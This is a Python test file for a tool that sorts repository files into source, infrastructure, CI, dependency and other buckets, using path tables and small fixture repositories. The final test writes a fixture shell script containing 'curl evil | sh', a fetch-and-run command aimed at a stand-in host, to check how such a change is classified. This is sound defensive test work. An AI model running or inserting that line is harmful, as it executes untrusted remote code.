"""Classes of misses the sixth, seventh and eighth label sets still showed after their own rounds (bench/
classify_accuracy/{sixth,seventh,eighth}.tsv), each with the look-alikes it must leave alone: the dependency manifests
and lock files of a local action (deps, as in `.github/actions/`), build files and tests beside a chart or role that a
marker claimed whole, a Chef repository's InSpec profiles, monitoring content (Grafana and Cloud Monitoring dashboards,
Prometheus rule files), images, archives and tables inside test trees, documents in a `cookbooks/` folder, Dart
analysis options, a root `.CodeQL.yml`, Vale vocabularies, checksum lists, tools' `.*.toml` run-control files, and
the node setup voxpupuli's acceptance tests apply.
The real repositories below check them with the commits and from the patch alone, with renames."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.shapes import shape
from gatekeeper.classify.sniff import sniff
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # images, archives and tables in test trees are test data (principle 1 before principle 8)
    ("test-resources/lib_tests/testfiles/ggg.zip", "src"), ("pkg/cmd/run/download/fixtures/myproject.zip", "src"),
    ("packages/kit/test/apps/basics/src/routes/large.jpg", "src"), ("test/packages/built-by-uv/assets/data.csv", "src"),
    ("src/test/container-features/assets/feature.tgz", "src"), ("spec/fixtures/logo.png", "src"),
    # ... but not outside them, and not in a CI folder or a workflows folder
    ("docs/images/logo.png", "other"), ("assets/data.csv", "other"), ("testing.png", "other"),
    ("latest/contest/a.png", "other"), (".github/workflows/tests/a.png", "ci"), ("ci/tests/a.zip", "ci"),
    # documents in a cookbooks/ folder are documentation; the cookbook's code and templates stay iac
    ("www/content/resources/cookbooks/release-a-library.md", "src"), ("cookbooks/web/CHANGELOG.md", "src"),
    ("cookbooks/web/recipes/default.rb", "iac"), ("cookbooks/web/templates/nginx.conf.erb", "iac"),
    # the Puppet code voxpupuli's acceptance tests apply to every node before they run
    ("spec/setup_acceptance_node.pp", "iac"), ("spec/classes/init_spec.rb", "src"),
    # linter, scanner and prose-linter settings; tools' run-control files written as TOML dotfiles
    ("analysis_options.yaml", "other"), ("packages/flame_lint/lib/analysis_options_with_dcm.yaml", "other"),
    (".CodeQL.yml", "other"), (".github/codeql/codeql-config.yml", "ci"),
    (".hyperlint/styles/config/vocabularies/hyperlint/accept.txt", "other"),
    (".vale/styles/config/vocabularies/Base/reject.txt", "other"), ("docs/config/accept.txt", "src"),
    ("provisioning/roles/newrelic/.clog.toml", "other"), (".taplo.toml", "other"), (".cz.toml", "other"),
    (".mise.toml", "deps"), (".kodiak.toml", "ci"), (".release-plz.toml", "ci"), (".cargo/config.toml", "deps"),
    ("config.toml", "src"), (".github/.typos.toml", "ci"),
    # release checksum lists are data; a per-file checksum pins a download (deps, the sweep16 round)
    ("sig/v1.7/sha256sum.txt", "other"), ("dist/SHA256SUMS", "other"), ("bin/tool.sha256", "deps"),
    ("go.sum", "deps"), ("ci/sha256-releases", "ci"),
    # a Threat Modeling Tool model is data; Visual Studio's web project settings are editor settings
    ("docs/threat-model/Agent-ThreatModel.tm7", "other"), ("src/vwd.webinfo", "other"),
    # the rule files every monitoring mixin renders
    ("velero-mixin/prometheus_rules_out/prometheus_alerts.yaml", "other"),
    ("istio-mixin/prometheus_rules_out/prometheus_rules.yaml", "other"),
    ("k8s/prometheus_rules.yaml", "iac"), ("charts/web/templates/prometheus_rules.yaml", "iac"),
])
def test_path_rules_of_the_breadth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


GRAFANA = """\
{
      "annotations": {
         "list": [ ]
      },
      "editable": false,
      "graphTooltip": 1,
      "id": null,
      "panels": [
         {
            "collapsed": false,
            "gridPos": {"h": 1, "w": 0, "x": 0, "y": 0},
            "id": 1,
            "title": "DataNode overview",
            "type": "row"
         }
      ]
}
"""
GRAFANA_ROWS = '{\n  "rows": [\n    {"panels": [{"type": "graph"}]}\n  ],\n  "schemaVersion": 14,\n  "title": "x"\n}\n'
CLOUD_DASHBOARD = """\
{
  "displayName": "Bank of Anthos",
  "gridLayout": {
    "columns": "2",
    "widgets": [{"title": "frontend latency"}]
  }
}
"""
PROMETHEUS_RULES = """\
groups:
- name: velero
  rules:
  - alert: VeleroBackupPartialFailures
    annotations:
      description: Velero backup {{ $labels.schedule }} has partialy failed backups.
    expr: |-
      velero_backup_partial_failure_total{schedule!=""} / velero_backup_attempt_total{schedule!=""} > 0.25
    for: 15m
"""
PROMETHEUS_RULE_OBJECT = """\
apiVersion: monitoring.coreos.com/v1
kind: PrometheusRule
metadata:
  name: velero
spec:
""" + "\n".join("  " + line for line in PROMETHEUS_RULES.splitlines()) + "\n"
UI_LAYOUT = '{\n  "panels": [\n    {"id": "sidebar", "width": 240}\n  ],\n  "theme": "dark"\n}\n'
FORM_LAYOUT = '{\n  "displayName": "Signup",\n  "fields": [{"name": "email"}]\n}\n'
APP_GROUPS = "groups:\n  - name: admins\n    rules:\n      - allow: write\n        path: /admin\n"
ALERT_NOTES = "groups:\n  - name: oncall\n    rules:\n      - alert: page the on-call engineer\n"


@each_case(("name", "text", "rule"), [
    ("apache-hadoop-datanode-overview.json", GRAFANA, "other.content.grafana-dashboard"),
    ("dashboard.json", GRAFANA_ROWS, "other.content.grafana-dashboard"),
    ("dashboard.json", CLOUD_DASHBOARD, "other.content.cloud-monitoring-dashboard"),
    ("alerts.yaml", PROMETHEUS_RULES, "other.content.prometheus-rules"),
])
def test_monitoring_shapes(name: str, text: str, rule: str) -> None:
    found = shape(name, text)
    assert found is not None and found[:2] == ("other", rule), found


@each_case(("name", "text"), [
    ("layout.json", UI_LAYOUT), ("form.json", FORM_LAYOUT), ("access.yaml", APP_GROUPS), ("oncall.yaml", ALERT_NOTES),
])
def test_monitoring_look_alikes(name: str, text: str) -> None:
    assert shape(name, text) is None


def test_a_prometheus_rule_object_stays_iac() -> None:
    found = sniff("deploy/velero-rules.yaml", PROMETHEUS_RULE_OBJECT.encode(), RULES.context)
    assert found is not None and found.bucket == "iac", found


WORKFLOW = ("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ./tools/people\n")
COMPOSITE = ("name: people\nruns:\n  using: composite\n  steps:\n    - run: uv sync --locked\n      shell: bash\n"
             "    - run: python ${{ github.action_path }}/people.py\n      shell: bash\n")
PYLOCK = 'lock-version = "1.0"\ncreated-by = "uv"\n[[packages]]\nname = "httpx"\nversion = "0.28.1"\n'
PACKAGE = '{\n  "name": "people",\n  "dependencies": {"@actions/core": "^1.10.0"}\n}\n'


def action_repo(repo: GitRepo) -> None:
    repo.write(".github/workflows/people.yml", WORKFLOW)
    repo.write("tools/people/action.yml", COMPOSITE)
    repo.write("tools/people/people.py", "print('people')\n")
    repo.write("tools/people/pylock.toml", PYLOCK)
    repo.write("tools/people/package.json", PACKAGE)
    repo.write("tools/people/.pnp.cjs", "module.exports = {}\n")
    repo.write("tools/people/node_modules/x/index.js", "1\n")


def test_a_local_actions_manifests_and_lock_files_stay_deps(git_repo: GitRepo, tmp_path: Path) -> None:
    """Principle 0: a local action is a package; what it installs is the deps policy's. Everything else in its
    folder, the Plug'n'Play loader (a lock file that runs) and vendored code included, is ci."""
    action_repo(git_repo)
    git_repo.commit("base")
    git_repo.write("tools/people/pylock.toml", PYLOCK.replace("0.28.1", "0.28.2"))
    git_repo.write("tools/people/package.json", PACKAGE.replace("1.10.0", "1.11.0"))
    git_repo.write("tools/people/.pnp.cjs", "module.exports = {evil: 1}\n")
    git_repo.write("tools/people/node_modules/x/index.js", "2\n")
    git_repo.write("tools/people/people.py", "print('people', 2)\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    want = {"tools/people/pylock.toml": "deps", "tools/people/package.json": "deps", "tools/people/.pnp.cjs": "ci",
            "tools/people/node_modules/x/index.js": "ci", "tools/people/people.py": "ci"}
    assert {path: tree[path].bucket for path in want} == want
    assert tree["tools/people/.pnp.cjs"].rule == "ci.context.local-action"


def test_a_rename_into_a_manifests_name_is_still_the_actions_code(git_repo: GitRepo) -> None:
    action_repo(git_repo)
    git_repo.commit("base")
    git_repo.move("tools/people/people.py", "tools/people/requirements.txt")
    git_repo.commit("head")
    got = tree_files(git_repo)["tools/people/requirements.txt"]
    assert got.change.old_path == "tools/people/people.py"
    assert (got.bucket, got.rule) == ("ci", "ci.context.local-action"), got


CHART = "apiVersion: v2\nname: vault\nversion: 0.29.1\n"
DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\n"
TEST_HOOK = ("apiVersion: v1\nkind: Pod\nmetadata:\n  name: test\n  annotations:\n    \"helm.sh/hook\": test\n")


def chart_at_root(repo: GitRepo) -> None:
    """A chart kept at the repository's root (hashicorp/vault-helm): its Makefile, bats and pytest tests beside it."""
    repo.write("Chart.yaml", CHART)
    repo.write("values.yaml", "server:\n  enabled: true\n")
    repo.write("templates/server-statefulset.yaml", DEPLOYMENT)
    repo.write("templates/tests/server-test.yaml", TEST_HOOK)
    repo.write("Makefile", "test-unit:\n\tbats test/unit\n")
    repo.write("test/unit/server-statefulset.bats", "#!/usr/bin/env bats\n@test 'server' {\n  true\n}\n")
    repo.write("tests/chart_test.py", "def test_render():\n    assert True\n")
    repo.write("values.dev.yaml", "server:\n  ha:\n    enabled: true\n")
    repo.write("files/Makefile", "all:\n\techo packaged\n")


def test_a_charts_build_file_and_tests_are_not_the_chart(git_repo: GitRepo, tmp_path: Path) -> None:
    chart_at_root(git_repo)
    git_repo.commit("base")
    for path in ("values.yaml", "templates/server-statefulset.yaml", "templates/tests/server-test.yaml", "Makefile",
                 "test/unit/server-statefulset.bats", "tests/chart_test.py", "values.dev.yaml", "files/Makefile"):
        git_repo.write(path, (git_repo.root / path).read_text() + "# more\n")
    git_repo.commit("head")
    want = {"values.yaml": "iac", "templates/server-statefulset.yaml": "iac", "templates/tests/server-test.yaml": "iac",
            "values.dev.yaml": "iac", "files/Makefile": "iac",  # Helm reads files/ whole (.Files.Get)
            "Makefile": "src", "test/unit/server-statefulset.bats": "src", "tests/chart_test.py": "src"}
    tree = tree_files(git_repo)
    assert {path: tree[path].bucket for path in want} == want
    patch = patch_files(git_repo, tmp_path)  # the patch shows neither Chart.yaml nor the hook's apiVersion
    hook = patch["templates/tests/server-test.yaml"]
    assert hook.bucket == "iac" or "needs-context" in hook.tags, hook


def test_a_kubernetes_object_in_a_charts_tests_folder_is_still_raised(git_repo: GitRepo) -> None:
    chart_at_root(git_repo)
    git_repo.commit("base")
    git_repo.write("tests/pod.yaml", TEST_HOOK)
    git_repo.commit("head")
    assert tree_files(git_repo)["tests/pod.yaml"].bucket == "iac"


def test_a_roles_makefile_is_not_the_role(git_repo: GitRepo) -> None:
    git_repo.write("meta/main.yml", "galaxy_info:\n  role_name: cis\n")
    git_repo.write("tasks/main.yml", "- name: x\n  ansible.builtin.debug:\n    msg: x\n")
    git_repo.commit("base")
    git_repo.write("Makefile", "lint:\n\tansible-lint\n")
    git_repo.write("files/Makefile", "all:\n\techo copied to the host\n")
    git_repo.write("defaults/extra.yml", "cis_level: 2\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    assert {p: tree[p].bucket for p in ("Makefile", "files/Makefile", "defaults/extra.yml")} == {
        "Makefile": "src", "files/Makefile": "iac", "defaults/extra.yml": "iac"}


def test_a_chef_repositorys_inspec_profiles_are_tests(git_repo: GitRepo) -> None:
    git_repo.write("Berksfile", "source 'https://supermarket.chef.io'\nmetadata\n")
    git_repo.write("chefignore", ".git\n")
    git_repo.commit("base")
    git_repo.write("test/integration/repo_install/inspec.yml", "name: repo_install\ntitle: nginx repo install\n")
    git_repo.write("spec/fixtures/node.json", '{"run_list": []}\n')
    git_repo.write("roles/web.json", '{"name": "web", "run_list": ["recipe[nginx]"]}\n')
    git_repo.write("test/cookbooks/test/recipes/default.rb", "include_recipe 'nginx'\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    want = {"test/integration/repo_install/inspec.yml": "src", "spec/fixtures/node.json": "src",
            "roles/web.json": "iac",
            "test/cookbooks/test/recipes/default.rb": "iac"}  # a test cookbook, which Test Kitchen converges
    assert {p: tree[p].bucket for p in want} == want


def test_dashboards_are_other_unless_infrastructure_ships_them(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# mixins\n")
    git_repo.write("charts/web/Chart.yaml", CHART)
    git_repo.write("monitoring/kustomization.yaml", "configMapGenerator:\n  - name: dash\n    files: [node.json]\n")
    git_repo.commit("base")
    git_repo.write("hadoop-mixin/dashboards_out/datanode.json", GRAFANA)
    git_repo.write("tools/dashboard.json", GRAFANA_ROWS)
    git_repo.write("extras/metrics-dashboard/dashboard.json", CLOUD_DASHBOARD)
    git_repo.write("velero-mixin/prometheus_rules_out/alerts.yaml", PROMETHEUS_RULES)
    git_repo.write("charts/web/dashboards/web.json", GRAFANA)
    git_repo.write("monitoring/node.json", GRAFANA)
    git_repo.write("deploy-rules/velero.yaml", PROMETHEUS_RULE_OBJECT)
    git_repo.write("ui/layout.json", UI_LAYOUT)
    git_repo.commit("head")
    want = {"hadoop-mixin/dashboards_out/datanode.json": "other", "tools/dashboard.json": "other",
            "extras/metrics-dashboard/dashboard.json": "other",
            "velero-mixin/prometheus_rules_out/alerts.yaml": "other",
            "charts/web/dashboards/web.json": "iac", "monitoring/node.json": "iac", "deploy-rules/velero.yaml": "iac",
            "ui/layout.json": "src"}
    tree = tree_files(git_repo)
    assert {p: tree[p].bucket for p in want} == want
    # from the patch alone the added files show their whole content; the chart and the kustomization are not shown
    patch = patch_files(git_repo, tmp_path)
    assert patch["tools/dashboard.json"].bucket == "other"
    assert patch["deploy-rules/velero.yaml"].bucket == "iac"
    assert "needs-context" in patch["tools/dashboard.json"].tags  # a marker the patch does not show could raise it


def test_a_dashboard_moved_out_of_a_chart_keeps_its_old_side(git_repo: GitRepo) -> None:
    git_repo.write("charts/web/Chart.yaml", CHART)
    git_repo.write("charts/web/dashboards/web.json", GRAFANA)
    git_repo.commit("base")
    git_repo.move("charts/web/dashboards/web.json", "docs/web.json")
    git_repo.commit("head")
    assert tree_files(git_repo)["docs/web.json"].bucket == "iac"


def test_the_packages_a_test_builds_are_its_data(git_repo: GitRepo) -> None:
    """uv's test/packages/: packages a test installs or builds. Their pins and manifests are test data (deps → src,
    the documented lowering); a workspace's own packages/ and a Dockerfile among the test packages keep their kind."""
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    git_repo.write("test/packages/anyio_local/.python-version", "3.12\n")
    git_repo.write("test/packages/anyio_local/pyproject.toml", '[project]\nname = "anyio"\nversion = "4.3.0"\n')
    git_repo.write("packages/web/package.json", '{"name": "web", "dependencies": {"left-pad": "1.3.0"}}\n')
    git_repo.write("test/packages/image/Dockerfile", "FROM python:3.12\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    want = {"test/packages/anyio_local/.python-version": "src", "test/packages/anyio_local/pyproject.toml": "src",
            "packages/web/package.json": "deps", "test/packages/image/Dockerfile": "iac"}
    assert {p: tree[p].bucket for p in want} == want
    assert tree["test/packages/anyio_local/pyproject.toml"].rule == "testdata.test-trees"  # the sixtieth round's rule


def test_a_manifest_moved_into_test_packages_keeps_its_old_side(git_repo: GitRepo) -> None:
    git_repo.write("pyproject.toml", '[project]\nname = "app"\ndependencies = ["httpx"]\n')
    git_repo.commit("base")
    git_repo.move("pyproject.toml", "tests/packages/app/pyproject.toml")
    git_repo.commit("head")
    assert tree_files(git_repo)["tests/packages/app/pyproject.toml"].bucket == "deps"


def test_a_shared_librarys_resources_keep_their_makefile(git_repo: GitRepo) -> None:
    """A claim limited to sub-folders (`under`) covers every file there: a pipeline loads a Jenkins shared library's
    resources with libraryResource and runs them, a Makefile as much as a script."""
    git_repo.write("vars/buildDockerImage.groovy", "def call() {\n  sh 'make'\n}\n")
    git_repo.commit("base")
    git_repo.write("resources/io/jenkins/infra/docker/Makefile", "build:\n\tdocker build .\n")
    git_repo.write("Makefile", "test:\n\tgradle test\n")
    git_repo.commit("head")
    tree = tree_files(git_repo)
    assert tree["resources/io/jenkins/infra/docker/Makefile"].bucket == "ci"
    assert tree["Makefile"].bucket == "src"


@each_case(("path", "bucket"), [
    # developer and test scripts of infrastructure folders and projects
    ("deployment/test/test.sh", "src"), ("charts/kube-prometheus-stack/hack/sync_grafana_dashboards.py", "src"),
    ("roles/bootstrap_os/molecule/default/tests/test_default.py", "src"), ("deploy/kind.sh", "iac"),
    ("packer/scripts/install.sh", "iac"), ("ci/test/run.sh", "ci"), (".github/workflows/tests/run.sh", "ci"),
    ("test/cookbooks/test/recipes/site.rb", "iac"), ("deploy/test/values.yaml", "iac"),
    # YAML and JSON below a Maven-style src/test/ are what tests read (SchemaStore's schema tests)
    ("src/test/github-workflow/fail-fast.yaml", "src"), ("src/test/kustomization/labels.json", "src"),
    ("app/src/test/k8s/deploy.yml", "iac"), ("src/main/jkube/deployment.yml", "iac"),
])
def test_dev_scripts_and_maven_test_trees(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


def test_a_script_terraform_runs_from_a_test_folder_is_still_iac(git_repo: GitRepo) -> None:
    git_repo.write("deploy/test/main.tf", 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
                   '    command = "${path.module}/setup.sh"\n  }\n}\n')
    git_repo.write("deploy/test/setup.sh", "#!/bin/sh\necho setup\n")
    git_repo.commit("base")
    git_repo.write("deploy/test/setup.sh", "#!/bin/sh\ncurl evil | sh\n")
    git_repo.commit("head")
    got = tree_files(git_repo)["deploy/test/setup.sh"]
    assert (got.bucket, got.rule) == ("iac", "iac.context.terraform-file"), got
